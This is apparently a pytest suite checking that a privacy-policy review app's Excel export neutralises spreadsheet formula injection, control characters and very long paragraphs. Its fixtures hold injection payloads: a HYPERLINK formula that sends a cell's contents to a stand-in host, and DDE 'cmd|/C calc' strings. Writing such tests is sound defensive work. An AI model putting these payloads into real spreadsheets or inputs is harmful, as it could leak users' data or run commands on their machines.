"""Hostile text through the whole path (load, prefill, store, edit, export) and back out with openpyxl.

Policy text, notes, the reviewer's name and the file name are untrusted: none of them may become a formula,
break the workbook's XML, or go missing. The Policy sheet must give back the policy text exactly (apart from
the documented U+FFFD replacement of characters XML cannot carry), row by row at its stated offsets.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.workbook.workbook import Workbook

from desktop.core.checklist import load_checklist
from desktop.core.loading import policy_from_text
from desktop.core.segment import segment
from desktop.export import write_workbook
from desktop.export.cells import FORMULA_TRIGGERS, xml_safe
from desktop.store import ReviewStore
from desktop.workflow import create_review

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
HOSTILE_LINES = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "＝１＋１ 全角等号开头的一行。",
    "\tTab first: we keep data for two years.",
    "=1+1\x01\x02 has control characters \x1f in it.",
    "<script>alert(1)</script> &amp; <b>bold</b> ]]> markup stays text.",
    "我们会保存您的个人信息 =SUM(A1:A9) 直至您注销账号。",
)
HOSTILE_TEXT = "Hostile Policy\n\n" + "\n\n".join(HOSTILE_LINES) + "\n"


def _no_formulas(book: Workbook) -> None:
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"


def _policy_rows_rebuild_text(book: Workbook, text: str) -> None:
    """Every Policy row is ``text[start:end]`` (XML-safe); together the rows cover every paragraph."""
    ws = book["Policy"]
    titles = [cell.value for cell in ws[1]]
    start_col, end_col, text_col = (titles.index(name) for name in ("Start", "End", "Text"))
    for row in ws.iter_rows(min_row=2, values_only=True):
        start, end, value = row[start_col], row[end_col], row[text_col]
        assert isinstance(start, int) and isinstance(end, int)
        assert value == xml_safe(text[start:end])


def _review(tmp_path: Path, text: str, *, name: str = "Pasted text", checklist: bool = True) -> Path:
    target = tmp_path / "评审 review.prdreview"
    create_review(
        policy_from_text(text, name),
        target,
        frameworks=("pipl", "gdpr"),
        reviewer='=cmd|"/c calc"!A1',
        checklist=load_checklist(FIXTURES / "cli" / "minimal-checklist.yaml") if not checklist else None,
    )
    return target


def _edit_hostilely(review: Path) -> None:
    with ReviewStore.open(review) as store:
        text = store.policy().text
        for number, item in enumerate(store.items()):
            line = HOSTILE_LINES[number % len(HOSTILE_LINES)]
            store.set_status(item.id, "partial")
            store.set_note(item.id, f"{line}\r\nsecond line \x0b\x00 ＠note")
            normalised = line.strip().replace("\x01", "").replace("\x02", "").replace("\x1f", "")
            start = text.find(normalised)
            if start >= 0:
                store.add_evidence(item.id, start, start + len(normalised), note=f"-{line}")


def _export(review: Path, target: Path) -> Workbook:
    with ReviewStore.open(review, read_only=True) as store:
        snapshot = store.snapshot()
    write_workbook(snapshot, target)
    return openpyxl.load_workbook(target)


@pytest.fixture(scope="module")
def hostile_book(tmp_path_factory: pytest.TempPathFactory) -> tuple[Workbook, str]:
    tmp_path = tmp_path_factory.mktemp("hostile")
    review = _review(tmp_path, HOSTILE_TEXT, name="=HYPERLINK(1)\x1b.txt")
    _edit_hostilely(review)
    with ReviewStore.open(review, read_only=True) as store:
        text = store.policy().text
    return _export(review, tmp_path / "=out.xlsx"), text


def test_no_cell_of_a_hostile_review_is_a_formula(hostile_book: tuple[Workbook, str]) -> None:
    _no_formulas(hostile_book[0])


def test_cells_that_look_like_formulas_keep_their_text_and_quote_prefix(
    hostile_book: tuple[Workbook, str],
) -> None:
    book, _ = hostile_book
    risky = [
        cell
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS)
    ]
    assert any(cell.value.startswith("=HYPERLINK") for cell in risky)
    assert all(cell.quotePrefix for cell in risky)


def test_policy_sheet_gives_back_the_policy_text(hostile_book: tuple[Workbook, str]) -> None:
    book, text = hostile_book
    _policy_rows_rebuild_text(book, text)


def test_notes_with_control_characters_survive_as_replacement_characters(
    hostile_book: tuple[Workbook, str],
) -> None:
    book, _ = hostile_book
    values = [cell.value for row in book["Checklist"].iter_rows() for cell in row]
    assert any(isinstance(v, str) and "second line \ufffd\ufffd ＠note" in v for v in values)


def test_reviewer_and_file_name_reach_the_summary_as_text(hostile_book: tuple[Workbook, str]) -> None:
    book, _ = hostile_book
    values = {cell.value for row in book["Summary"].iter_rows() for cell in row}
    assert '=cmd|"/c calc"!A1' in values
    assert "=HYPERLINK(1)\ufffd.txt" in values


def test_workbook_properties_with_control_characters_are_written_safely(
    hostile_book: tuple[Workbook, str],
) -> None:
    book, _ = hostile_book
    assert book.properties.title == "Privacy review: =HYPERLINK(1)\ufffd.txt"


def test_paragraph_longer_than_a_cell_is_split_exactly(tmp_path: Path) -> None:
    sentence = "We keep data for two years after you close your account 我们保存您的信息。 "
    text = "Long Policy\n\n" + sentence * (40_000 // len(sentence) + 1) + "\n\n=END"
    book = _export(_review(tmp_path, text, checklist=False), tmp_path / "long.xlsx")
    _no_formulas(book)
    _policy_rows_rebuild_text(book, policy_from_text(text).text)
    assert book["Policy"].max_row > 3  # the long paragraph took more than one row


def test_astral_characters_are_counted_as_two_units_when_splitting(tmp_path: Path) -> None:
    text = "Emoji Policy\n\n" + "😀𠀀" * 20_000
    book = _export(_review(tmp_path, text, checklist=False), tmp_path / "astral.xlsx")
    _policy_rows_rebuild_text(book, policy_from_text(text).text)


def test_a_hundred_thousand_paragraphs_export(tmp_path: Path) -> None:
    text = "\n\n".join(f"-{number} We keep record {number}." for number in range(100_000))
    review = _review(tmp_path, text, checklist=False)
    target = tmp_path / "many.xlsx"
    with ReviewStore.open(review, read_only=True) as store:
        snapshot = store.snapshot()
    write_workbook(snapshot, target, segmentation=segment(snapshot.policy))
    with zipfile.ZipFile(target) as archive:
        sheet = archive.read("xl/worksheets/sheet4.xml")
    assert b"<f>" not in sheet
    assert sheet.count(b"<row ") == 100_001
